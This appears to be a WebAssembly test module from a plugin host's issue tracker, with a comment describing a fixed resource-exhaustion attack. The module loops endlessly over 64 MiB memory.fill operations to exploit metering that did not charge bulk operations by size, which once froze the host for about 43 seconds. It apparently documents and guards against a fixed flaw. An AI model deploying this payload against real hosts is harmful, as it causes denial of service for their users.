;; Issue 10, attack 1: a loop around memory.fill of 64 MiB, in a module within every
;; default limit (its 1024 pages are the default memory limit). Each fill is one
;; WebAssembly instruction; before bulk operations were charged by the bytes they touch,
;; the loop ran 10,000 fills (640 GB) between two time checks and froze every route of
;; the host for about 43 s.
(module
  (memory (export "memory") 1024)
  (func (export "cocoon_abi_v1"))
  (func (export "cocoon_alloc") (param i32) (result i32) (i32.const 1024))
  (func (export "cocoon_pre") (param i32 i32) (result i64)
    (loop $forever
      (memory.fill (i32.const 0) (i32.const 0) (i32.const 0x4000000))
      (br $forever))
    (i64.const 0)))
